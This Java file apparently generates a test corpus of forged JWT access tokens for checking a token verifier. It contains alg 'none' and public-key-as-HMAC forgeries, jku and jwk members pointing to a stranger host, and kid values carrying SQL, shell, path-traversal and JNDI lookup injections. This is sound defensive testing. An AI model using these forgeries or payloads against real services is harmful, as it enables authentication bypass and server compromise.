package hotleads.platform.token;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jwt.JWTClaimsSet;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.security.Signature;
import java.time.Clock;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * More than a thousand forgeries of one token, by what is wrong with each. Wherever a rule of shape is broken, the
 * signature is genuine: what is refused is the shape, not a signature that would have failed anyway.
 */
public final class ForgedCorpus {
    private static final Base64.Encoder BASE64 = Base64.getUrlEncoder().withoutPadding();
    private static final BigInteger ORDER =
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);

    private static final PrivateKey STRANGERS_RSA = rsa();

    private final ECKey key;
    private final ECKey strangersKey = ForgedTokens.freshKey("stranger");
    private final Clock clock;
    private final String header;
    private final String payload;
    private final String genuine;
    private final Map<String, String> all = new LinkedHashMap<>();

    private ForgedCorpus(ECKey key, JWTClaimsSet claims, Clock clock) {
        this.key = key;
        this.clock = clock;
        this.header = header("\"ES256\"", quoted(key.getKeyID()), "\"at+jwt\"");
        this.payload = claims.toString();
        this.genuine = signed(header, payload);
    }

    static Map<String, String> of(ECKey key, JWTClaimsSet claims, Clock clock) {
        ForgedCorpus corpus = new ForgedCorpus(key, claims, clock);
        corpus.algorithmsAndTypes();
        corpus.keyIds();
        corpus.furtherMembers();
        corpus.membersTwice();
        corpus.headersOfAnotherForm();
        corpus.claims(claims);
        corpus.payloadsOfAnotherForm();
        corpus.signatures();
        corpus.passwordsMadeOfThePublicKey();
        corpus.bitsTurned();
        corpus.spellings();
        corpus.sizesAndNests();
        return Map.copyOf(corpus.all);
    }

    private void algorithmsAndTypes() {
        List<String> algorithms = Stream.concat(
                        Stream.of("none", "None", "NONE", "nOnE", "", " ", "HS256", "HS384", "HS512", "RS256", "RS512")
                                .map(ForgedCorpus::quoted),
                        Stream.of(
                                "\"PS256\"",
                                "\"ES384\"",
                                "\"ES512\"",
                                "\"ES256K\"",
                                "\"EdDSA\"",
                                "\"es256\"",
                                "\"ES256 \"",
                                "\" ES256\"",
                                "\"ES256\\u0000\"",
                                "\"dir\"",
                                "\"A128KW\"",
                                "null",
                                "7",
                                "true",
                                "[\"ES256\"]",
                                "{\"ES256\":1}"))
                .toList();
        List<String> types = List.of(
                "\"JWT\"",
                "\"jwt\"",
                "\"AT+JWT\"",
                "\"At+Jwt\"",
                "\"application/at+jwt\"",
                "\"at+jwt \"",
                "\"client-authentication+jwt\"",
                "\"logout+jwt\"",
                "\"secevent+jwt\"",
                "\"JOSE\"",
                "\"dpop+jwt\"",
                "\"\"",
                "null",
                "7",
                "[\"at+jwt\"]",
                "{}");
        for (String algorithm : algorithms) {
            String forged = header(algorithm, quoted(key.getKeyID()), "\"at+jwt\"");
            put("alg " + algorithm, signed(forged, payload));
            put("alg " + algorithm + " without a signature", encoded(forged) + "." + encoded(payload) + ".");
            put("alg " + algorithm + " signed by a stranger", signed(forged, payload, strangersKey));
            for (String type : types) {
                put(
                        "alg " + algorithm + " and typ " + type,
                        signed(header(algorithm, quoted(key.getKeyID()), type), payload));
            }
        }
        types.forEach(type -> put("typ " + type, signed(header("\"ES256\"", quoted(key.getKeyID()), type), payload)));
    }

    private void keyIds() {
        String kid = key.getKeyID();
        for (String forged : List.of(
                "\"\"",
                "\" \"",
                quoted("unknown"),
                quoted(kid + " "),
                quoted(" " + kid),
                quoted(kid + "\\u0000"),
                quoted(kid + "\\n"),
                quoted("x" + kid),
                quoted("../" + kid),
                quoted("../../../../dev/null"),
                quoted("/etc/passwd"),
                quoted("file:///dev/null"),
                quoted("https://stranger.test/key"),
                quoted(kid + "' OR '1'='1"),
                quoted("x' UNION SELECT 'secret'--"),
                quoted("$(id)"),
                quoted("x;id"),
                quoted("${jndi:ldap://stranger.test}"),
                quoted("#{1+1}"),
                quoted("a".repeat(65)),
                "null",
                "7",
                "true",
                "[" + quoted(kid) + "]",
                "{\"kid\":" + quoted(kid) + "}")) {
            put("kid " + forged, signed(header("\"ES256\"", forged, "\"at+jwt\""), payload));
            put(
                    "kid " + forged + " by a stranger",
                    signed(header("\"ES256\"", forged, "\"at+jwt\""), payload, strangersKey));
        }
        put("our kid, a stranger's key", signed(header, payload, strangersKey));
    }

    private void furtherMembers() {
        String strangers = strangersKey.toPublicJWK().toJSONString();
        for (String member : List.of(
                "\"jku\":\"https://stranger.test/jwks\"",
                "\"jku\":\"file:///dev/null\"",
                "\"jku\":null",
                "\"jwk\":" + strangers,
                "\"jwk\":" + key.toPublicJWK().toJSONString(),
                "\"jwk\":null",
                "\"x5u\":\"https://stranger.test/x5u\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5c\":[]",
                "\"x5t\":\"AAAA\"",
                "\"x5t#S256\":\"AAAA\"",
                "\"crit\":[]",
                "\"crit\":[\"exp\"]",
                "\"crit\":[\"b64\"]",
                "\"crit\":null",
                "\"crit\":\"exp\"",
                "\"b64\":false",
                "\"b64\":true",
                "\"b64\":false,\"crit\":[\"b64\"]",
                "\"cty\":\"JWT\"",
                "\"zip\":\"DEF\"",
                "\"enc\":\"A128GCM\"",
                "\"epk\":" + strangers,
                "\"apu\":\"x\"",
                "\"apv\":\"x\"",
                "\"iv\":\"AAAA\"",
                "\"tag\":\"AAAA\"",
                "\"p2s\":\"AAAA\"",
                "\"p2c\":2147483647",
                "\"url\":\"https://stranger.test\"",
                "\"nonce\":\"x\"",
                "\"iss\":\"hotleads-auth\"",
                "\"sub\":\"x\"",
                "\"aud\":\"core\"",
                "\"exp\":9999999999",
                "\"__proto__\":{}",
                "\"ALG\":\"none\"",
                "\"Kid\":\"x\"",
                "\"alg \":\"none\"",
                "\"\":\"\"",
                "\"ppt\":\"shaken\"",
                "\"svt\":[]",
                "\"use\":\"enc\"")) {
            String forged = header.substring(0, header.length() - 1) + "," + member + "}";
            put("member " + member, signed(forged, payload));
            put("member " + member + " first", signed("{" + member + "," + header.substring(1), payload));
            put("member " + member + " by a stranger", signed(forged, payload, strangersKey));
            put("member " + member + " without a signature", encoded(forged) + "." + encoded(payload) + ".");
        }
    }

    private void membersTwice() {
        Map<String, List<String>> others = Map.of(
                "alg", List.of("\"none\"", "\"HS256\"", "\"ES256\"", "null"),
                "kid", List.of("\"unknown\"", quoted(key.getKeyID()), "null"),
                "typ", List.of("\"JWT\"", "\"at+jwt\"", "null"));
        others.forEach((name, values) -> values.forEach(value -> {
            String member = quoted(name) + ":" + value;
            put(name + " twice, first " + value, signed("{" + member + "," + header.substring(1), payload));
            put(
                    name + " twice, last " + value,
                    signed(header.substring(0, header.length() - 1) + "," + member + "}", payload));
            put(
                    name + " twice, spelled with an escape " + value,
                    signed(
                            "{"
                                    + member.replaceFirst("\"a", "\"\\\\u0061")
                                            .replaceFirst("\"k", "\"\\\\u006b")
                                            .replaceFirst("\"t", "\"\\\\u0074")
                                    + "," + header.substring(1),
                            payload));
        }));
        for (String name : List.of("alg", "kid", "typ")) {
            put(
                    "no " + name,
                    signed(
                            header.replaceFirst("\"" + name + "\":\"[^\"]*\",?", "")
                                    .replace(",}", "}"),
                            payload));
        }
    }

    private void headersOfAnotherForm() {
        for (String form : List.of(
                "",
                " ",
                " " + header,
                "\n" + header,
                "null",
                "true",
                "7",
                "\"ES256\"",
                "[]",
                "{}",
                "[" + header + "]",
                header + header,
                header + "x",
                header + ",",
                header.replace('"', '\''),
                header.replace("}", ",}"),
                "/**/" + header,
                header + "//x",
                "\ufeff" + header,
                header.substring(1),
                header.substring(0, header.length() - 1),
                "{\"alg\":NaN}",
                header.replace(":", "="),
                "nonsense",
                "<header/>")) {
            put("header " + form, signed(form, payload));
        }
        byte[] wide = header.getBytes(StandardCharsets.UTF_16LE);
        put("header in UTF-16", BASE64.encodeToString(wide) + genuine.substring(genuine.indexOf('.')));
        put(
                "header of bytes that are no text",
                BASE64.encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, 0})
                        + genuine.substring(genuine.indexOf('.')));
    }

    private void claims(JWTClaimsSet claims) {
        for (Object issuer : Arrays.asList(
                null,
                "",
                "hotleads",
                "hotleads-auth ",
                "HOTLEADS-AUTH",
                "https://stranger.test",
                "hotleads-auth/",
                List.of("hotleads-auth"),
                7,
                true)) {
            put("iss " + issuer, with(claims, "iss", issuer));
        }
        String audience = claims.getAudience().getFirst();
        for (Object other : Arrays.asList(
                null,
                "",
                "*",
                "elsewhere",
                audience + " ",
                audience.toUpperCase(java.util.Locale.ROOT),
                audience + "/",
                "https://" + audience,
                List.of(),
                List.of(audience, "elsewhere"),
                List.of("elsewhere", audience),
                List.of(audience, audience),
                List.of(List.of(audience)),
                Map.of("aud", audience),
                7,
                true,
                audience + "," + "elsewhere",
                audience + "\u0000")) {
            put("aud " + other, with(claims, "aud", other));
        }
        Stream.of("core", "auth", "webhooks", "sync", "gateway", "app")
                .filter(service -> !service.equals(audience))
                .forEach(service -> put("made for " + service, with(claims, "aud", service)));
        long now = clock.instant().getEpochSecond();
        for (Object expiry : Arrays.asList(
                null,
                0,
                -1,
                now - 11,
                now - 60,
                now - 86_400,
                "never",
                String.valueOf(now + 60),
                List.of(now + 60),
                Map.of(),
                true,
                -9_999_999_999L)) {
            put("exp " + expiry, with(claims, "exp", expiry));
        }
        for (Object start : Arrays.asList(now + 600, now + 3_600, now + 86_400, "later", List.of(), Map.of())) {
            put("nbf " + start, with(claims, "nbf", start));
        }
        for (Object subject : Arrays.asList(null, List.of("x"), Map.of(), true)) {
            put("sub " + subject, with(claims, "sub", subject));
        }
        Object scope = claims.getClaim("scope");
        for (Object other : Arrays.asList(null, 7, true, List.of(String.valueOf(scope)), List.of(), Map.of("api", 1))) {
            put("scope " + other, with(claims, "scope", other));
        }
    }

    private void payloadsOfAnotherForm() {
        String end = payload.substring(1);
        for (String form : List.of(
                "",
                " ",
                "null",
                "true",
                "7",
                "\"x\"",
                "[]",
                "[" + payload + "]",
                payload + payload,
                payload + "x",
                payload.replace('"', '\''),
                payload.substring(1),
                "nonsense",
                "<claims/>",
                "{\"aud\":\"elsewhere\"," + end,
                "{\"exp\":1," + end,
                "{\"iss\":\"stranger\"," + end,
                "{\"scope\":\"other\"," + end,
                "{\"sub\":\"other\"," + end)) {
            put("payload " + form, signed(header, form));
        }
        put("payload without claims", signed(header, "{}"));
        put("a token inside the token", signed(header, genuine));
    }

    private void signatures() {
        String unsigned = genuine.substring(0, genuine.lastIndexOf('.') + 1);
        byte[] signature = Base64.getUrlDecoder().decode(genuine.substring(unsigned.length()));
        put("no signature", unsigned);
        IntStream.of(0, 1, 16, 31, 32, 33, 48, 63, 65, 96, 128)
                .forEach(size ->
                        put("signature of " + size + " bytes", unsigned + text(Arrays.copyOf(signature, size))));
        byte[][] numbers = {
            new byte[32],
            number(BigInteger.ONE),
            number(ORDER),
            number(ORDER.subtract(BigInteger.ONE)),
            number(BigInteger.TWO.pow(256).subtract(BigInteger.ONE))
        };
        for (int r = 0; r < numbers.length; r++) {
            for (int s = 0; s < numbers.length; s++) {
                put("signature of the numbers " + r + " and " + s, unsigned + text(join(numbers[r], numbers[s])));
            }
            put(
                    "first half of the signature is number " + r,
                    unsigned + text(join(numbers[r], Arrays.copyOfRange(signature, 32, 64))));
            put(
                    "second half of the signature is number " + r,
                    unsigned + text(join(Arrays.copyOf(signature, 32), numbers[r])));
        }
        put(
                "halves of the signature swapped",
                unsigned + text(join(Arrays.copyOfRange(signature, 32, 64), Arrays.copyOf(signature, 32))));
        put(
                "signature of another token",
                unsigned + signed(header, payload.replace("}", ",\"x\":1}")).split("\\.")[2]);
        put(
                "signature in DER",
                unsigned
                        + text(signatureOf(
                                unsigned.substring(0, unsigned.length() - 1), privateOf(key), "SHA256withECDSA")));
        put(
                "signature over SHA-512",
                unsigned
                        + text(signatureOf(
                                unsigned.substring(0, unsigned.length() - 1),
                                privateOf(key),
                                "SHA512withECDSAinP1363Format")));
        put(
                "signature over the dot as well",
                unsigned + text(signatureOf(unsigned, privateOf(key), "SHA256withECDSAinP1363Format")));
        put(
                "signature over the payload alone",
                unsigned + text(signatureOf(encoded(payload), privateOf(key), "SHA256withECDSAinP1363Format")));
        put(
                "signature over the plain texts",
                unsigned + text(signatureOf(header + "." + payload, privateOf(key), "SHA256withECDSAinP1363Format")));
        put(
                "signature of a stranger's RSA key",
                unsigned + text(signatureOf(unsigned, STRANGERS_RSA, "SHA256withRSA")));
    }

    private void passwordsMadeOfThePublicKey() {
        for (String size : List.of("256", "384", "512")) {
            String forged = header(quoted("HS" + size), quoted(key.getKeyID()), "\"at+jwt\"");
            publicKeyInEveryForm().forEach((form, password) -> {
                put("HS" + size + " with the public key " + form, withMac(forged, password, size));
                put("HS" + size + " called ES256 with the public key " + form, withMac(header, password, size));
            });
        }
    }

    private Map<String, byte[]> publicKeyInEveryForm() {
        try {
            byte[] der = key.toECPublicKey().getEncoded();
            String base64 = Base64.getEncoder().encodeToString(der);
            return Map.of(
                    "in DER", der,
                    "in PEM",
                            ("-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----\n")
                                    .getBytes(StandardCharsets.US_ASCII),
                    "in base64", base64.getBytes(StandardCharsets.US_ASCII),
                    "as JWK", key.toPublicJWK().toJSONString().getBytes(StandardCharsets.US_ASCII),
                    "as its first number", key.getX().decode(),
                    "replaced by its id", key.getKeyID().getBytes(StandardCharsets.US_ASCII),
                    "replaced by one zero", new byte[1]);
        } catch (JOSEException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private void bitsTurned() {
        byte[] bytes = genuine.getBytes(StandardCharsets.US_ASCII);
        for (int at = 0; at < bytes.length; at += 3) {
            byte[] changed = bytes.clone();
            changed[at] = (byte) (bytes[at] == 'A' ? 'B' : 'A');
            put("letter " + at + " changed", new String(changed, StandardCharsets.US_ASCII));
        }
    }

    private void spellings() {
        String[] parts = genuine.split("\\.");
        for (int part = 0; part < 3; part++) {
            for (String foreign : List.of(
                    "=", "==", "===", " ", "\t", "\r\n", "\n", "%0A", "!", "+", "/", "\u0000", "\u00e4", "\u0661",
                    "\ufeff", "~", "\"", "-", "A")) {
                put("part " + part + " begins with " + foreign, replaced(parts, part, foreign + parts[part]));
                put("part " + part + " ends with " + foreign, replaced(parts, part, parts[part] + foreign));
                put(
                        "part " + part + " holds " + foreign,
                        replaced(parts, part, parts[part].substring(0, 5) + foreign + parts[part].substring(5)));
            }
            put("part " + part + " is missing", replaced(parts, part, ""));
            put(
                    "part " + part + " is padded as it should be elsewhere",
                    replaced(
                            parts,
                            part,
                            Base64.getUrlEncoder()
                                            .encodeToString(
                                                    Base64.getUrlDecoder().decode(parts[part])) + "="));
            put("part " + part + " is encoded twice", replaced(parts, part, encoded(parts[part])));
        }
        put(
                "leftover bits",
                genuine.substring(0, genuine.length() - 1) + leftover(genuine.charAt(genuine.length() - 1)));
        put("one part", parts[0]);
        put("two parts", parts[0] + "." + parts[1]);
        put("four parts", genuine + "." + parts[2]);
        put("five parts", genuine + ".AAAA.AAAA");
        put("parts in another order", parts[1] + "." + parts[0] + "." + parts[2]);
        put("other separators", genuine.replace('.', ','));
        put("two tokens", genuine + "," + genuine);
        put("Bearer twice", "Bearer " + genuine);
        put("in quotes", "\"" + genuine + "\"");
        put(
                "in JSON",
                "{\"protected\":\"" + parts[0] + "\",\"payload\":\"" + parts[1] + "\",\"signature\":\"" + parts[2]
                        + "\"}");
        put(
                "in JSON with a list",
                "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0] + "\",\"signature\":\""
                        + parts[2] + "\"}]}");
    }

    private void sizesAndNests() {
        IntStream.of(5_000, 6_000, 7_000, 8_000)
                .forEach(size -> put(
                        "payload of " + size + " letters",
                        signed(header, payload.replaceFirst("\\{", "{\"x\":\"" + "a".repeat(size) + "\","))));
        IntStream.of(500, 1_000, 2_000)
                .forEach(depth -> put(
                        "header nested " + depth + " deep",
                        signed(
                                header.replaceFirst("\\{", "{\"x\":" + "[".repeat(depth) + "]".repeat(depth) + ","),
                                payload)));
        put(
                "number with two thousand digits",
                signed(header.replaceFirst("\\{", "{\"x\":" + "9".repeat(2_000) + ","), payload));
    }

    private void put(String what, String token) {
        // What two rules make alike is counted once; the genuine token is no forgery.
        if (!token.equals(genuine)) {
            all.put(what, token);
        }
    }

    private String with(JWTClaimsSet claims, String name, @org.jspecify.annotations.Nullable Object value) {
        Map<String, Object> members = new LinkedHashMap<>(claims.toJSONObject());
        if (value == null) {
            members.remove(name);
        } else {
            members.put(name, value);
        }
        return signed(header, tools.jackson.databind.json.JsonMapper.shared().writeValueAsString(members));
    }

    private static String header(String algorithm, String kid, String type) {
        return "{\"alg\":" + algorithm + ",\"kid\":" + kid + ",\"typ\":" + type + "}";
    }

    private static String quoted(String text) {
        return "\"" + text + "\"";
    }

    private static String encoded(String text) {
        return text(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String text(byte[] bytes) {
        return BASE64.encodeToString(bytes);
    }

    private String signed(String header, String payload) {
        return signed(header, payload, key);
    }

    private static String signed(String header, String payload, ECKey key) {
        return signed(header.getBytes(StandardCharsets.UTF_8), payload.getBytes(StandardCharsets.UTF_8), key);
    }

    static String signed(byte[] header, byte[] payload, ECKey key) {
        String unsigned = text(header) + "." + text(payload);
        return unsigned + "." + text(signatureOf(unsigned, privateOf(key), "SHA256withECDSAinP1363Format"));
    }

    private static byte[] signatureOf(String text, PrivateKey key, String algorithm) {
        try {
            Signature signature = Signature.getInstance(algorithm);
            signature.initSign(key);
            signature.update(text.getBytes(StandardCharsets.US_ASCII));
            return signature.sign();
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private String withMac(String header, byte[] password, String size) {
        try {
            String unsigned = encoded(header) + "." + encoded(payload);
            Mac mac = Mac.getInstance("HmacSHA" + size);
            mac.init(new SecretKeySpec(password, mac.getAlgorithm()));
            return unsigned + "." + text(mac.doFinal(unsigned.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static PrivateKey privateOf(ECKey key) {
        try {
            return key.toECPrivateKey();
        } catch (JOSEException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static PrivateKey rsa() {
        try {
            KeyPairGenerator maker = KeyPairGenerator.getInstance("RSA");
            maker.initialize(2048);
            return maker.generateKeyPair().getPrivate();
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static byte[] number(BigInteger value) {
        byte[] bytes = value.toByteArray();
        byte[] number = new byte[32];
        int length = Math.min(32, bytes.length);
        System.arraycopy(bytes, bytes.length - length, number, 32 - length, length);
        return number;
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] whole = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, whole, first.length, second.length);
        return whole;
    }

    private static String replaced(String[] parts, int part, String by) {
        String[] changed = parts.clone();
        changed[part] = by;
        return String.join(".", changed);
    }

    private static char leftover(char last) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        return alphabet.charAt(alphabet.indexOf(last) ^ 1);
    }
}
